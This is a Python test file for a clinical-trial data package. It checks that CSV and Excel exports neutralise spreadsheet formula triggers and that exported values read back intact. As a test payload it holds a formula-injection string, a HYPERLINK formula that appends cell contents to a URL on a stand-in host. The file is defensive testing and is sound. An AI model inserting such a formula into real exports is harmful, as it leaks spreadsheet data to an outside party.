"""Exported cells never start a spreadsheet formula, and every value reads back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from cairo6.report.cells import TRIGGERS, neutralise, recover
from cairo6.report.files import Sheet, _csv, _xlsx
from cairo6.service import exchange_export
from cairo6.service.dictionary import exchange_variables
from cairo6.service.exchange_tables import parse_cell
from cairo6.service.records import record_form
from tests.service.conftest import Site, enrol, site  # noqa: F401  (the `site` fixture)

ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def _risky(text: str) -> bool:
    """Would a spreadsheet read this cell as a formula (a plain number is just a number)?"""
    try:
        float(text)
    except ValueError:
        return text.startswith(TRIGGERS)
    return False


@given(st.text())
def test_every_value_round_trips(value: str) -> None:
    assert recover(neutralise(value)) == value


@pytest.mark.parametrize("value", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_triggers_are_written_as_text(value: str) -> None:
    assert not _risky(neutralise(value))
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.5", "12", "plain text", ""])
def test_numbers_and_plain_text_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_report_tables_in_csv_and_xlsx_hold_no_formula(tmp_path: Path) -> None:
    sheet = Sheet("t", "T", ["term", ATTACK], [[ATTACK, "-0.5"]], caption="@caption")
    rows = list(csv.reader(io.StringIO(_csv(sheet))))
    assert not any(_risky(cell) for row in rows for cell in row)
    assert rows[1][1] == "-0.5"
    book = tmp_path / "t.xlsx"
    book.write_bytes(_xlsx([sheet]))
    cells = [c for row in load_workbook(book).active.iter_rows() for c in row if c.value]
    assert all(c.data_type == "s" and not _risky(str(c.value)) for c in cells)
    assert recover(cells[-2].value) == ATTACK


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_exported_text_holds_no_formula_and_imports_back(site: Site, tmp_path: Path) -> None:  # noqa: F811
    person = enrol(site, site.dm).study_number
    record_form(
        site.trial,
        site.dm,
        person,
        "toxicity",
        {"term": ATTACK, "ctcae_term": "Diarrhea", "grade": 2, "phase": "neoadjuvant"},
    )
    tmp_path = tmp_path / "export"
    exchange_export.export_csv(site.trial, site.stat, tmp_path)
    columns = exchange_variables(site.trial.protocol, site.trial.study)
    entries = {e.variable: e for e in columns["toxicity"]}
    with (tmp_path / "toxicity.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for path in tmp_path.glob("*.csv"):
        text = path.read_text(encoding="utf-8")
        assert not any(_risky(c) for row in csv.reader(io.StringIO(text)) for c in row), path
    assert [parse_cell(entries["term"], r["term"]) for r in rows] == [ATTACK]
